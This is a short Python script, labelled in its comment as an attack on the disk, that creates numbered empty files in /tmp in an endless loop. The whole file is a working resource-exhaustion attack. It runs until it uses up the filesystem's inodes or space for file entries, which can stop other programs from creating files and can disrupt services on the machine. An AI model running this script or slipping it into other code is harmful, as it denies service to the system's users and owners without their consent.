# Attacks the disk with files that take up no room but their names.
number = 0
while True:
    number += 1
    open(f"/tmp/{number}", "w").close()
